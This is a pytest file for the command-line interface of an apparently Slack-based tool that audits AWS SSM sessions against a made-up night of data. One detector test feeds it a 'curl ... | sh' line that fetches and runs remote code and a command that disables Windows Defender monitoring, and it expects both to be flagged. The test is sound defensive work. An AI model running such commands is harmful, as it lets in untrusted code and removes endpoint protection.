"""The command line as a person types it, on the made-up night."""

from __future__ import annotations

import json

import pytest

from bot.roof import cli


@pytest.fixture(name="typed")
def _typed(night_archive, tmp_path, capsys):
    """Types a line; gives exit code, output and errors."""

    def run(*words, **environment):
        env = {"COUNTERSIGN_ARCHIVE": str(night_archive.path), "COUNTERSIGN_STORE": f"sqlite:///{tmp_path}/x.db", **environment}
        code = cli.main(list(words), env)
        said = capsys.readouterr()
        return code, said.out, said.err

    return run


def test_ask_prints_what_slack_would_show(typed):
    code, out, err = typed("ask", "audit", "7d", "--now", "2026-11-23T21:14:00+00:00")
    assert (0, True) == (code, "sessions opened, 9 denied" in out)
    assert "no AWS account is asked" in err


def test_ask_json_is_one_object(typed):
    code, out, _ = typed("ask", "active", "--json", "--now", "2026-11-23T21:14:00+00:00")
    whole = json.loads(out)
    assert (0, {"text", "blocks", "data", "sources"}) == (code, set(whole))
    assert 9 == len(whole["data"])
    assert {"backend", "query", "span", "read", "unread", "rows", "scanned", "cost", "seconds"} <= set(whole["sources"][0])


def test_ask_explain_asks_nothing(typed):
    code, out, _ = typed("ask", "ports 7d", "--explain")
    assert (0, True, True) == (code, "nothing was asked" in out, "StartSession" in out)


@pytest.mark.parametrize(
    ("words", "environment", "said"),
    [
        pytest.param(["ask", "actve"], {}, "Did you mean `/ssm active`", id="a typo"),
        pytest.param(["ask", "active"], {"COUNTERSIGN_ARCHIVE": "/nowhere/x.duckdb"}, "There is no archive", id="no archive"),
        pytest.param(
            ["ask", "active"], {"COUNTERSIGN_ZONE": "Mars/Olympus", "COUNTERSIGN_WORKERS": "no"}, "2 faults", id="all faults at once"
        ),
        pytest.param(["ask", "active"], {"COUNTERSIGN_ARCHIV": "x"}, "did you mean COUNTERSIGN_ARCHIVE", id="a misspelt variable"),
        pytest.param(["ask", "active"], {"COUNTERSIGN_RULES": "/nowhere"}, "There is no rule directory", id="no rules"),
        pytest.param(["ask", "active", "--as", "U0STRANGER"], {"COUNTERSIGN_VIEWERS": "U0ANA"}, "not among the people", id="not allowed"),
        pytest.param(["archive", "add", "/nowhere"], {}, "There is no folder", id="no folder"),
        pytest.param(["policy", "--scope", "nope"], {}, "There is no scope", id="no scope"),
        pytest.param(
            ["manifest"],
            {"COUNTERSIGN_MODE": "http", "SLACK_BOT_TOKEN": "xoxb-1", "SLACK_SIGNING_SECRET": "x"},
            "public address",
            id="HTTP without an address",
        ),
        pytest.param(["judge", "/nowhere.txt"], {}, "nowhere.txt", id="no file"),
    ],
)
def test_a_mistake_is_a_sentence_and_exit_code_2(typed, words, environment, said):
    code, _, err = typed(*words, **environment)
    assert (2, True) == (code, said in err), err


def test_judge_gives_findings_a_line(typed, tmp_path):
    lines = [
        "ls -la",
        "curl http://198.51.100.7/x | sh",
        json.dumps({"text": "Set-MpPreference -DisableRealtimeMonitoring $true", "os": "windows"}),
    ]
    (tmp_path / "lines").write_text("\n".join(lines))
    code, out, _ = typed("judge", str(tmp_path / "lines"))
    found = [json.loads(line) for line in out.splitlines()]
    assert (0, [False, True, True]) == (code, [bool(one["findings"]) for one in found])
    assert {"rule", "title", "level", "techniques"} == set(found[1]["findings"][0])


def test_transcript_gives_what_was_typed(typed, the_night):
    told = next(t for t in the_night.sessions if "object" in t.logs and t.typed)
    code, out, _ = typed("transcript", str(the_night.folder / "session-logs" / f"{told.id}.log"), "--json")
    assert 0 == code
    assert {"line", "prompt", "text", "at"} == set(json.loads(out.splitlines()[0]))


def test_transcript_says_which_command_is_in_doubt(typed, tmp_path):
    """A streamed line beyond the usual width may hold the spaces of its wraps."""
    said = ["sh-5.2$ id", "uid=0(root)", "sh-5.2$ echo" + " word" * 20, "word", "sh-5.2$ exit"]
    event = {"eventVersion": "1.0", "eventTime": "2026-11-23T16:59:04Z", "sessionId": "ana-1", "sessionData": said}
    (tmp_path / "log").write_text(json.dumps(event) + "\n")
    code, out, _ = typed("transcript", str(tmp_path / "log"), "--json")
    assert (0, [False, True]) == (code, ["doubt" in json.loads(line) for line in out.splitlines()[:2]])


def test_manifest_and_policy_are_json(typed):
    assert json.loads(typed("manifest")[1])["settings"]["socket_mode_enabled"]
    assert "ssm:StartSession" not in typed("policy")[1]
    assert json.loads(typed("policy")[1])["Statement"]


def test_without_slack_aws_or_archive_there_is_the_night(typed):
    code, out, err = typed("ask", "active", COUNTERSIGN_ARCHIVE="")
    assert (0, True, True) == (code, "sessions open" in out, "made-up night" in err)
